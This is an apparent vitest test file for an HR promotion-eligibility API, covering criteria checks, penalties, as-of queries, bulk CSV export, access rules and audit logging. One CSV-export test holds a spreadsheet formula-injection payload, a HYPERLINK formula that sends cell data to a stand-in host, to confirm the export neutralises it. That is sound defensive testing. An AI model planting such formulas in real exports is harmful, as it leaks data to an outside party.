import { describe, expect, it } from "vitest";
import type { PersonId } from "../../domain/kernel/model.ts";
import { periodKey } from "../../domain/kernel/periods.ts";
import { AuditLog } from "../../functions/dynamo/audit-log.ts";
import { createDocumentClient } from "../../functions/dynamo/client.ts";
import { DynamoEligibilityStore } from "../../functions/dynamo/eligibility-store.ts";
import { dispatch } from "../../scripts/local/api.ts";
import { as } from "../support/api.ts";
import { tableNames } from "../support/env.ts";
import { store as ledgerStore } from "../support/invariants.ts";
import { withDemoDefinitions } from "../support/org.ts";
import { cloudEvent, deliver } from "../support/webhooks.ts";

const { admin, secrets } = await withDemoDefinitions();
const hr = await as("deng-hua", "hr");
const progress = "com.tianma.learning.plan.progress";
const today = periodKey(new Date(), "day");
const yesterday = periodKey(new Date(Date.now() - 86_400_000), "day");
const reportProgress = (personId: string, completionRate: number) =>
  deliver("tianma-learning", cloudEvent(progress, personId, { completionRate, onTimeRate: 88 }), {
    secret: secrets["tianma-learning"] as string,
  });
const check = async (personId: string, gate = "base-to-middle", client = hr, asOf?: string) =>
  client.get(`/people/${personId}/eligibility?gate=${gate}${asOf ? `&asOf=${asOf}` : ""}`);
const criterion = (
  body: { criteria: { criterion: { kind: string }; met: boolean; gap: number; actual: string; evidence: string[] }[] },
  kind: string,
) => body.criteria.find((c) => c.criterion.kind === kind);

describe("one person's check", () => {
  it("explains every unmet criterion with the actual value and how far it is", async () => {
    const response = await check("huang-tao");
    expect(response.status).toBe(200);
    expect(response.body).toMatchObject({ personId: "huang-tao", eligible: false, gate: { gateId: "base-to-middle", version: 1 } });
    expect(criterion(response.body, "points")).toMatchObject({ met: false, actual: "0 points", gap: 100 });
    expect(criterion(response.body, "capabilityPoints")).toMatchObject({ met: false, gap: 60 });
    expect(criterion(response.body, "badge")).toMatchObject({ met: false, actual: "not held" });
    expect(criterion(response.body, "measure")).toMatchObject({ met: false, actual: "not reported" });
    expect(criterion(response.body, "noPenalty")).toMatchObject({ met: true });
    expect(criterion(response.body, "tierTenure")).toMatchObject({ met: true });
  });

  it("is met once points, the badge they reach and the reported measure are there, with evidence", async () => {
    for (const [capability, amount] of [
      ["tool-operation", 60],
      ["efficient-execution", 30],
      ["growth-driving", 20],
    ] as const) {
      await admin.post("/awards", { personId: "huang-tao", points: { capability, amount }, reason: "学习" });
    }
    await reportProgress("huang-tao", 92);
    const response = await check("huang-tao");
    expect(response.body.eligible).toBe(true);
    expect(criterion(response.body, "badge")?.evidence[0]).toMatch(/^person\.huang-tao\.\d+$/);
    expect(criterion(response.body, "measure")?.evidence[0]).toMatch(/^tianma-learning\//);
    expect(criterion(response.body, "points")?.evidence[0]).toContain("person.huang-tao.1…");
  });

  it("takes a measure at the boundary as met, and just under it as unmet by the difference", async () => {
    await reportProgress("huang-tao", 90);
    expect(criterion((await check("huang-tao")).body, "measure")).toMatchObject({ met: true, gap: 0 });
    await reportProgress("huang-tao", 89.5);
    expect(criterion((await check("huang-tao")).body, "measure")).toMatchObject({ met: false, gap: 0.5 });
    await reportProgress("huang-tao", 95);
  });

  it("a red warning blocks the gate until it is reversed; another kind of penalty does not", async () => {
    await admin.post("/awards", { personId: "huang-tao", coins: 10, reason: "x" });
    const warning = await admin.post("/deductions", {
      personId: "huang-tao",
      coins: 1,
      category: "red-warning",
      reason: "红色预警：门店数据延迟上报",
    });
    const blocked = await check("huang-tao");
    expect(blocked.body.eligible).toBe(false);
    expect(criterion(blocked.body, "noPenalty")).toMatchObject({ met: false, evidence: [warning.body.entries[0].entryId] });
    await admin.post(`/ledger/${warning.body.entries[0].entryId}/reversal`, { reason: "预警撤销" });
    await admin.post("/deductions", { personId: "huang-tao", coins: 1, category: "arena", reason: "擂台处罚" });
    expect((await check("huang-tao")).body.eligible).toBe(true);
  });

  it("checking a person of another tier is a 422", async () => {
    const response = await check("huang-tao", "middle-to-senior");
    expect([response.status, response.body.code]).toEqual([422, "gate-tier-mismatch"]);
  });

  it("an unknown gate or person is a 404 for hr", async () => {
    expect((await check("huang-tao", "no-gate")).status).toBe(404);
    expect((await check("ghost")).status).toBe(404);
  });
});

describe("as of a past day", () => {
  it("as of yesterday nothing written today counts; as of today everything does", async () => {
    const past = await check("huang-tao", "base-to-middle", hr, yesterday);
    expect(past.body).toMatchObject({ eligible: false });
    expect(criterion(past.body, "points")).toMatchObject({ actual: "0 points" });
    expect(criterion(past.body, "measure")).toMatchObject({ actual: "not reported" });
    const now = await check("huang-tao", "base-to-middle", hr, today);
    expect(now.body.eligible).toBe(true);
  });

  it("reads the chain exactly as it stood at a cutoff between an award and its reversal, from a checkpoint on", async () => {
    const db = createDocumentClient();
    const eligibility = new DynamoEligibilityStore(db, tableNames, ledgerStore, new AuditLog(db, tableNames.ledger));
    // More than one checkpoint's worth of entries, so that the read starts from a checkpoint.
    for (let i = 0; i < 60; i++)
      await admin.post("/awards", { personId: "wu-min", points: { capability: "tool-operation", amount: 1 }, reason: `r${i}` });
    const award = await admin.post("/awards", {
      personId: "wu-min",
      points: { capability: "growth-driving", amount: 25 },
      reason: "bounty",
    });
    await new Promise((resolve) => setTimeout(resolve, 5));
    const between = new Date().toISOString();
    await new Promise((resolve) => setTimeout(resolve, 5));
    await admin.post(`/ledger/${award.body.entries.at(-1).entryId}/reversal`, { reason: "wrong team" });
    const then = (cutoff: string) => ({ day: cutoff.slice(0, 10), cutoff, clock: "known-then" as const });
    const atCutoff = await eligibility.asOf("wu-min" as PersonId, then(between), [], between);
    expect(atCutoff.chain.balances["point:growth-driving"]).toBe(25);
    expect(atCutoff.chain.balances["point:tool-operation"]).toBe(60);
    const later = await eligibility.asOf("wu-min" as PersonId, then(new Date().toISOString()), [], between);
    expect(later.chain.balances["point:growth-driving"]).toBeUndefined();
    const head = await ledgerStore.readPerson("wu-min" as PersonId);
    expect(later.chain).toEqual(head.chain);
  });
});

describe("many people at once", () => {
  it("checks an org unit and everything below it, with a summary", async () => {
    const response = await hr.post("/eligibility-checks", { gateId: "base-to-middle", orgUnitId: "retail-ops" }, {});
    expect(response.status).toBe(200);
    const ids = response.body.results.map((r: { personId: string }) => r.personId).sort();
    expect(ids).toEqual(["hu-yan", "huang-tao", "liu-yang", "ma-chao", "wang-fang", "wu-min", "xu-jing", "yang-xue"]);
    expect(response.body.summary).toMatchObject({ checked: 8, eligible: 1, notEvaluated: 1 });
    expect(response.body.results.find((r: { personId: string }) => r.personId === "wang-fang").problem.code).toBe("gate-tier-mismatch");
    expect(response.body.summary.mostCommonMissing.criterion).toBeTruthy();
  });

  it("answers as CSV in which a name typed as a formula stays text", async () => {
    const name = '=HYPERLINK("http://evil.example/?x="&A1,"杨雪")';
    const put = await admin.put("/admin/people/formula-name", { name, tier: "base", tierSince: "2025-01-01", orgUnitId: "tianma-retail" });
    expect(put.status).toBe(200);
    const raw = await dispatch({
      method: "POST",
      url: "/eligibility-checks",
      headers: { authorization: `Bearer ${hr.token}`, "content-type": "application/json", accept: "text/csv" },
      body: JSON.stringify({ gateId: "base-to-middle", personIds: ["formula-name"] }),
    });
    const row = (raw.body as string).split("\r\n")[1] as string;
    expect(row.startsWith(`formula-name,"'=HYPERLINK(""http://evil.example/?x=""&A1,""杨雪"")",`)).toBe(true);
  });

  it("answers as CSV that a spreadsheet opens with Chinese names intact", async () => {
    const raw = await dispatch({
      method: "POST",
      url: "/eligibility-checks",
      headers: { authorization: `Bearer ${hr.token}`, "content-type": "application/json", accept: "text/csv" },
      body: JSON.stringify({ gateId: "base-to-middle", personIds: ["huang-tao", "yang-xue"] }),
    });
    expect(raw.headers?.["content-type"]).toBe("text/csv; charset=utf-8");
    const text = raw.body as string;
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const rows = text
      .slice(1)
      .trim()
      .split("\r\n")
      .map((line) => line.split(","));
    expect(rows[0]?.slice(0, 3)).toEqual(["personId", "name", "eligible"]);
    expect(rows.slice(1).map((r) => [r[0], r[1], r[2]])).toEqual([
      ["huang-tao", "黄涛", "yes"],
      ["yang-xue", "杨雪", "no"],
    ]);
  });

  it("refuses more than 1,000 people and a manager", async () => {
    const tooMany = await hr.post(
      "/eligibility-checks",
      { gateId: "base-to-middle", personIds: Array.from({ length: 1001 }, (_, i) => `p${i}`) },
      {},
    );
    expect(tooMany.status).toBe(400);
    const manager = await (await as("liu-yang", "manager")).post(
      "/eligibility-checks",
      { gateId: "base-to-middle", orgUnitId: "store-east" },
      {},
    );
    expect(manager.status).toBe(403);
  });
});

describe("access and audit", () => {
  it("a manager checks themselves and their team, not another department", async () => {
    const lead = await as("liu-yang", "manager");
    expect((await check("liu-yang", "base-to-middle", lead)).status).toBe(200);
    expect((await check("yang-xue", "base-to-middle", lead)).status).toBe(200);
    const other = await check("gao-bo", "base-to-middle", lead);
    expect([other.status, other.body.code]).toEqual([403, "forbidden"]);
  });

  it("refuses an asOf after today in the company's time zone with 400 as-of-in-future, for one person and for many", async () => {
    const tomorrow = new Date(Date.parse(`${today}T00:00:00Z`) + 86_400_000).toISOString().slice(0, 10);
    const one = await check("yang-xue", "base-to-middle", hr, tomorrow);
    expect([one.status, one.body.code, one.body.today]).toEqual([400, "as-of-in-future", today]);
    const many = await hr.post("/eligibility-checks", { gateId: "base-to-middle", personIds: ["yang-xue"], asOf: tomorrow });
    expect([many.status, many.body.code]).toEqual([400, "as-of-in-future"]);
    expect((await check("yang-xue", "base-to-middle", hr, today)).status).toBe(200);
  });

  it("every check is in the audit trail that admins read: who, about whom, which gate version, as of when, the outcome", async () => {
    await check("yang-xue", "base-to-middle", hr, yesterday);
    const trail = await admin.get(`/admin/audit?day=${today}`);
    expect(trail.status).toBe(200);
    expect(trail.body.records).toContainEqual(
      expect.objectContaining({
        actor: "deng-hua",
        action: "eligibility-check",
        targets: ["yang-xue"],
        details: { gateId: "base-to-middle", version: 1, asOf: yesterday, known: "then" },
        outcome: "not-eligible",
      }),
    );
    expect(JSON.stringify(trail.body)).not.toContain("杨雪");
    expect((await hr.get(`/admin/audit?day=${today}`)).status).toBe(403);
  });

  it("every admin change is in the audit trail too, refusals included, with ids and no names", async () => {
    await admin.post("/awards", { personId: "yang-xue", coins: 3, reason: "audit me" });
    await admin.post("/deductions", { personId: "yang-xue", coins: 1_000_000, reason: "too much" });
    const { records } = (await admin.get(`/admin/audit?day=${today}`)).body;
    expect(records).toContainEqual(expect.objectContaining({ actor: "cao-yi", action: "award", targets: ["yang-xue"], outcome: "201" }));
    expect(records).toContainEqual(expect.objectContaining({ actor: "cao-yi", action: "deduct", outcome: "insufficient-balance" }));
  });

  it("one action, one audit record: a check by an admin and a gate change are each recorded once", async () => {
    const before = (await admin.get(`/admin/audit?day=${today}&limit=1000`)).body.records.length;
    await admin.post("/eligibility-checks", { gateId: "base-to-middle", personIds: ["yang-xue"] });
    await admin.put("/admin/gates/audited-once", {
      name: { zh: "门槛", en: "Gate" },
      tier: "base",
      targetGrade: "x",
      criteria: [{ kind: "points", atLeast: 1 }],
    });
    const records = (await admin.get(`/admin/audit?day=${today}&limit=1000`)).body.records;
    expect(records.length - before).toBe(2);
    expect(records.slice(0, 2).map((r: { action: string }) => r.action)).toEqual(["putGate", "eligibility-check"]);
  });

  it("reads a day of the company's calendar (Asia/Shanghai), newest first, a page at a time", async () => {
    const log = new AuditLog(createDocumentClient(), tableNames.ledger);
    const at = ["2026-03-01T15:59:59.999Z", "2026-03-01T16:00:00.000Z", "2026-03-02T10:00:00.000Z", "2026-03-02T16:00:00.000Z"];
    for (const [i, instant] of at.entries())
      await log.append({
        auditId: `00000000-0000-4000-8000-00000000000${i}`,
        at: instant,
        actor: "cao-yi" as PersonId,
        action: `a${i}`,
        targets: [],
        details: {},
        outcome: "ok",
      });
    const pages: string[][] = [];
    let cursor = "";
    do {
      const page = await admin.get(`/admin/audit?day=2026-03-02&limit=1${cursor ? `&cursor=${cursor}` : ""}`);
      expect(page.status).toBe(200);
      pages.push(page.body.records.map((r: { action: string }) => r.action));
      cursor = page.body.cursor ?? "";
    } while (cursor);
    expect(pages.flat()).toEqual(["a2", "a1"]);
    expect((await admin.get("/admin/audit?day=2026-03-02&cursor=bm90LWEtY3Vyc29y")).body.code).toBe("invalid-cursor");
  });

  it("a gate on a badge that does not exist is refused", async () => {
    const response = await admin.put("/admin/gates/broken", {
      name: { zh: "坏", en: "Broken" },
      tier: "base",
      targetGrade: "x",
      criteria: [{ kind: "badge", badgeId: "unicorn", minLevel: 1 }],
    });
    expect([response.status, response.body.code]).toEqual([422, "gate-badge-unknown"]);
  });
});
